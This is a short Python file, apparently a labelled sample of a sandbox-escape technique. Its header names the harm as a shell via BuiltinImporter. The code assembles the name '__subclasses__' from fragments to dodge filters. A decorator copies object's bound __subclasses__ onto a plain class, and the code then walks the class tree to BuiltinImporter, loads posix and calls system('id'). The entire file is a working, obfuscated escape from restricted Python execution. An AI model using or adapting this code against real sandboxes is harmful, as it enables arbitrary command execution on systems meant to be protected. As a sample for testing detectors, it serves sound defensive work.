# HARM: shell via BuiltinImporter | TRICK: file's own decorator returns its argument but first runs functools.update_wrapper copying object's bound __subclasses__ onto it
import functools
N = '_' * 2 + 'subclasses' + '_' * 2
def register(c):
    functools.update_wrapper(c, object, assigned=(N,), updated=())
    return c
@register
class Base: pass
class A(Base): pass
def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)
for k in walk():
    if k.__name__ == "BuiltinImporter":
        k.load_module("posix").system("id")
        break
